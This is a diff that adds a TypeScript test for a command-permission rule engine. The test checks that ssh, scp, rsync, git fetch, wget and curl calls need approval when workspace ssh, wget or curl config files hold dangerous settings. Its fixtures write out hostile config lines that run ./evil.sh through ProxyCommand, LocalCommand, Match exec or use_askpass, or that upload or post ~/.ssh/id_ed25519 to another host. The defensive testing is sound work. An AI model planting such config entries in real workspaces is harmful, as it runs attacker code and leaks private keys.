@@ -300,6 +300,48 @@ describe('a go env file, a go toolchain or a kubeconfig a call may have written,
       expect(await ruled(command), command).toBe('ask');
     }
   });
+
+  it("ssh's ~/.ssh/config, wget's ~/.wgetrc and curl's ~/.curlrc in the workspace: a command, a program or more hosts and files they take from there", async () => {
+    // Each call under an exact rule for it, scp, sftp, rsync and git fetch reaching the host through ssh.
+    const calls = {
+      ssh: ['ssh host uptime', 'scp a host:b', 'sftp host', 'rsync -a build/ deploy@host:/srv/', 'git fetch origin'],
+      wget: ['wget https://example.com/x'],
+      curl: ['curl https://example.com'],
+    };
+    const ruled = async (command: string) => (await evaluateRules(terminal(command), [prefix(command, { exact: true })], context)).decision;
+    // A person's usual settings: hosts, users, keys, a jump host; wget's timeouts; no curlrc, or one of comments only.
+    write('.ssh/config', 'Host host\n  HostName host.example\n  User me\n  IdentityFile ~/.ssh/id_ed25519\n  ProxyJump bastion\n# ProxyCommand in a comment\n');
+    write('.wgetrc', 'timeout = 60\ntries = 3\n# use_askpass = ./evil.sh\n');
+    write('.curlrc', '# nothing set\n\n');
+    for (const command of Object.values(calls).flat()) expect(await ruled(command), command).toBe('allow');
+    for (const [file, text, commands] of [
+      ['.ssh/config', 'Match exec "touch PWNED"\n', calls.ssh],
+      ['.ssh/config', 'Host *\n  ProxyCommand ./evil.sh %h\n', calls.ssh],
+      ['.ssh/config', 'Host *\n  "proxycommand"=./evil.sh\n', calls.ssh],
+      ['.ssh/config', 'Host *\n  PermitLocalCommand yes\n  LocalCommand ./evil.sh\n', calls.ssh],
+      ['.ssh/config', 'KnownHostsCommand ./evil.sh\n', calls.ssh],
+      ['.ssh/config', 'PKCS11Provider ./evil.so\n', calls.ssh],
+      ['.ssh/config', 'Include ~/x.conf\n', calls.ssh],
+      // wget reads a setting's name in any case with - and _ dropped: each of these runs ./evil.sh for each URL.
+      ['.wgetrc', 'use_askpass = ./evil.sh\n', calls.wget],
+      ['.wgetrc', 'u-SE-ask_PASS = ./evil.sh\n', calls.wget],
+      ['.wgetrc', 'post_file = .ssh/id_ed25519\n', calls.wget],
+      ['.curlrc', 'url = "https://elsewhere.example"\nupload-file = .ssh/id_ed25519\n', calls.curl],
+      ['.config/curlrc', '-T .ssh/id_ed25519\n', calls.curl],
+    ] as const) {
+      const before = existsSync(path.join(workspace, file)) ? readFileSync(path.join(workspace, file), 'utf8') : undefined;
+      write(file, text);
+      for (const command of commands) {
+        // ssh, which runs whatever it is given, is not plain anyway.
+        expect(await denied(command), `${text}: ${command}`).toMatch(new RegExp(`^ask naming ${noDelete.id}: ${command.startsWith('ssh ') ? '' : `.*~/${file.replace('.', '\\.')}`}`));
+        expect(await ruled(command), `${text}: ${command}`).toBe('ask');
+      }
+      if (before === undefined) rmSync(path.join(workspace, file));
+      else write(file, before);
+    }
+    // A command before it may write one.
+    expect(await ruled('cp x .wgetrc && wget https://example.com/x')).toBe('ask');
+  });
 });
 
 describe("Yarn's, pnpm's and composer's config naming code they run, and nx.json naming plugins, in an ordinary workspace", () => {
